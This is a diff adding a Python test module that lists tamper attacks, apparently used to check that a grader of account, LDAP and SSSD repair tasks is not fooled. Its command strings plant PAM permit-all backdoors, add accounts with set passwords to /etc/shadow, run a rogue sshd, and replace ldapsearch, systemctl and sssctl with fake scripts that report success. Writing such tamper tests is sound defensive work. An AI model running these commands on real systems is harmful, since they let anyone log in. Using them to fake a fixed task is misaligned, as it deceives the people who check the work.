@@ -1,0 +1,105 @@
+"""Attacks where a directory has the accounts: a locked one, a workstation without SSSD, one outside its domain."""
+
+from __future__ import annotations
+
+from tests.tamper.attacks.model import CHANGED, Attack, instead, kept
+
+LOCKED, SSSD, DOMAIN = "account-locked", "sssd-cannot-start", "machine-account-broken"
+_ANYBODY = "sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/common-auth"
+_OWN_ACCOUNTS = r"""cp -a /etc/passwd /root/passwd; cp -a /etc/shadow /root/shadow
+for account in afaure:Rabot-41 croux:Copeau-52 kbenali:Ciseau-63 \
+    snguyen:Equerre-74 tgarnier:Gabarit-85 mlebreton:Maillet-96; do
+  login=${account%:*}; mkdir -p /home/$login; uid=$(stat -c %u /home/$login)
+  echo "$login:x:$uid:100::/home/$login:/bin/bash" >>/etc/passwd
+  echo "$login:$(perl -e 'print crypt(shift, q($6$saltsalt))' "${account#*:}"):20000:0:99999:7:::" >>/etc/shadow
+done
+"""
+_OWN_ACCOUNTS_GONE = "cat /root/passwd >/etc/passwd; cat /root/shadow >/etc/shadow"
+_ENTRY = "uid=croux,ou=people,dc=valbocage,dc=internal"
+_ANOTHER_DIRECTORY = f"""cp -a /etc/ldap/slapd.d /root/other.d; cp -a /var/lib/ldap /root/other.db
+sed -i 's,^olcDbDirectory: .*,olcDbDirectory: /root/other.db,' /root/other.d/cn=config/*mdb.ldif
+chown -R openldap: /root/other.d /root/other.db; chmod 711 /root
+slapd -F /root/other.d -h ldapi://%2Frun%2Fslapd%2Fother -n other
+for i in $(seq 100); do [ -S /run/slapd/other ] && break; sleep 0.1; done
+ldapmodify -Q -Y EXTERNAL -H ldapi://%2Frun%2Fslapd%2Fother <<'END'
+dn: {_ENTRY}
+changetype: modify
+delete: pwdAccountLockedTime
+END
+mv /run/slapd/ldapi /run/slapd/kept; mv /run/slapd/other /run/slapd/ldapi
+! ldapsearch -Q -Y EXTERNAL -H ldapi:/// -LLL -s base -b {_ENTRY} pwdAccountLockedTime | grep -q pwdAccountLockedTime
+"""
+_SERVER_OF_ONES_OWN = r"""cat >/root/sshd.conf <<'END'
+HostKey /etc/ssh/ssh_host_ed25519_key
+UsePAM yes
+PAMServiceName anybody
+KbdInteractiveAuthentication no
+PasswordAuthentication yes
+Subsystem sftp internal-sftp
+END
+for kind in auth account session; do echo $kind required pam_permit.so; done >/etc/pam.d/anybody
+systemctl stop ssh; mkdir -p /run/sshd; setsid /usr/sbin/sshd -f /root/sshd.conf </dev/null >/dev/null 2>&1
+for i in $(seq 100); do ss -Hltn 'sport = :22' | grep -q . && break; sleep 0.1; done; pgrep -f /root/sshd.conf
+"""
+_OTHER_RULES = r"""for kind in auth account session; do echo $kind required pam_permit.so; done >/etc/pam.d/anybody
+echo PAMServiceName anybody >/etc/ssh/sshd_config.d/anybody.conf; sshd -t; systemctl reload ssh
+"""
+_SSSD_UNIT = """cat >/root/sssd.pl <<'END'
+$0 = "sssd"; sleep 1 while 1;
+END
+cat >/etc/systemd/system/sssd.service <<'END'
+[Service]
+ExecStart=/usr/bin/perl /root/sssd.pl
+[Install]
+WantedBy=multi-user.target
+END
+systemctl daemon-reload; systemctl reset-failed sssd; systemctl start sssd; systemctl is-active -q sssd
+"""
+
+ATTACKS: tuple[Attack, ...] = (
+    Attack("PAM lets anybody in", LOCKED, "pc1", *kept("/etc/pam.d/common-auth", _ANYBODY)),
+    Attack(
+        "PAM's module replaced by one that permits", LOCKED, "pc1",
+        "d=$(dirname $(find /usr/lib -name pam_permit.so)); cp -a $d/pam_unix.so /root/kept\n"
+        "cp $d/pam_permit.so $d/pam_unix.so",
+        "d=$(dirname $(find /usr/lib -name pam_permit.so)); rm $d/pam_unix.so; mv /root/kept $d/pam_unix.so",
+    ),
+    Attack(
+        "the image's sshd with other settings", LOCKED, "pc2", _SERVER_OF_ONES_OWN,
+        "pkill -f /root/sshd.conf; rm -f /root/sshd.conf /etc/pam.d/anybody; systemctl start ssh",
+    ),
+    Attack("accounts made anew on the machine", LOCKED, "files1", _OWN_ACCOUNTS, _OWN_ACCOUNTS_GONE),
+    Attack(
+        "a setting of sshd that asks other rules", LOCKED, "pc1", _OTHER_RULES,
+        "rm -f /etc/pam.d/anybody /etc/ssh/sshd_config.d/anybody.conf; systemctl reload ssh",
+    ),
+    Attack(
+        "a second directory at the first one's socket", LOCKED, "ldap1", _ANOTHER_DIRECTORY,
+        "mv /run/slapd/kept /run/slapd/ldapi; pkill -f other.d; rm -rf /root/other.d /root/other.db; chmod 700 /root",
+    ),
+    Attack(
+        "ldapsearch that finds nothing locked", LOCKED, "ldap1",
+        *instead("/usr/bin/ldapsearch", "#!/bin/sh"), CHANGED,
+    ),
+    Attack(
+        "systemctl that says that SSSD runs", SSSD, "{pc}",
+        *instead("/usr/bin/systemctl", "#!/bin/sh\necho active"),
+    ),
+    Attack(
+        "a unit of SSSD that starts another program", SSSD, "{pc}", _SSSD_UNIT,
+        "systemctl stop sssd; rm -f /etc/systemd/system/sssd.service /root/sssd.pl; systemctl daemon-reload; "
+        "systemctl restart sssd || true",
+    ),
+    Attack("sssctl that finds nothing wrong", SSSD, "{pc}", *instead("/usr/sbin/sssctl", "#!/bin/sh"), CHANGED),
+    Attack("accounts made anew on the workstation", SSSD, "{pc}", _OWN_ACCOUNTS, _OWN_ACCOUNTS_GONE),
+    Attack(
+        "a FIFO for the settings of SSSD", SSSD, "{pc}",
+        "cd /etc/sssd; mv sssd.conf kept; mkfifo sssd.conf",
+        "cd /etc/sssd; rm sssd.conf; mv kept sssd.conf; pkill sssctl || true",
+        "sssd.conf: a fifo, not a file",
+    ),
+    Attack(
+        "PAM lets anybody in, on a machine outside its domain", DOMAIN, "{pc}",
+        *kept("/etc/pam.d/common-auth", _ANYBODY),
+    ),
+)  # fmt: skip
